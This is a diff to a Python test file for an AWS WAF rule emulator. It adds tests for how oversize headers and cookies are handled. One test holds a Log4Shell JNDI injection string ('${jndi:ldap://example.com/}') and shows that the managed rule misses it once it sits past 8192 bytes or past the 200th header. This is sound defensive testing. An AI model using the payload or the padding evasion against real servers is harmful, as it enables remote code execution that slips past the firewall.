@@ -21,6 +21,7 @@ BROWSER = [("host", "app.example.com"), ("user-agent", "Mozilla/5.0"), ("cookie"
 NAMESPACE = "awswaf:123456789012:webacl:front:"
 GROUP_NAMESPACE = "awswaf:123456789012:rulegroup:own:"
 BLOCK: dict[str, Any] = {"Block": {}}
+LAST = {"PositionalConstraint": "EXACTLY", "SearchString": base64.b64encode(b"x-last").decode()}
 USE_GROUP: dict[str, Any] = {
     "Name": "own",
     "Priority": 0,
@@ -336,6 +337,38 @@ def test_a_body_above_the_limit_is_handled_as_the_rule_says(handling: str, expec
     details = {"FieldToMatch": {"Body": {"OversizeHandling": handling}}, "ComparisonOperator": "GT", "Size": 9000}
     large = request(body="a" * BODY_LIMIT, body_size=10_000)
     assert inspection(large).matches({"SizeConstraintStatement": details}) is expected
+
+
+MANY = [(f"x-{number}", "") for number in range(197)]
+"""Headers of a browser, three, with which there are 200."""
+
+
+@pytest.mark.parametrize(
+    ("kind", "within", "above"),
+    [
+        ("Headers", MANY, [*MANY, ("x-last", "")]),
+        ("Headers", [("x-long", "a" * 8000)], [("x-long", "a" * 8192)]),
+        ("Cookies", [("cookie", "; ".join(["a=1"] * 198))], [("cookie", "; ".join(["a=1"] * 199))]),
+        ("Cookies", [("cookie", "a=" + "1" * 8100)], [("cookie", "a=" + "1" * 8192)]),
+    ],
+)
+def test_headers_and_cookies_above_the_limits_are_handled_as_the_rule_says(
+    kind: str, within: list[tuple[str, str]], above: list[tuple[str, str]]
+) -> None:
+    def matches(more: list[tuple[str, str]], handling: str) -> bool | None:
+        field = {kind: {"MatchPattern": {"All": {}}, "MatchScope": "ALL", "OversizeHandling": handling}}
+        return inspection(request(*more)).matches({"ByteMatchStatement": {**LAST, "FieldToMatch": field}})
+
+    assert [matches(within, handling) for handling in ("MATCH", "NO_MATCH", "CONTINUE")] == [False, False, False]
+    assert [matches(above, handling) for handling in ("MATCH", "NO_MATCH", "CONTINUE")] == [True, False, False]
+
+
+def test_what_is_beyond_the_limits_of_headers_is_not_inspected() -> None:
+    attack = "${jndi:ldap://example.com/}"
+    assert matching(request(("x-long", attack + "a" * 9000)), BAD_INPUTS) == ["Log4JRCE_HEADER"]
+    assert matching(request(("x-long", "a" * 8192 + attack)), BAD_INPUTS) == []
+    assert matching(request(*MANY, ("x-last", attack)), BAD_INPUTS) == []
+    assert matching(request(*MANY[1:], ("x-last", attack)), BAD_INPUTS) == ["Log4JRCE_HEADER"]
 
 
 def test_a_rate_is_counted_for_each_client_in_its_window() -> None:
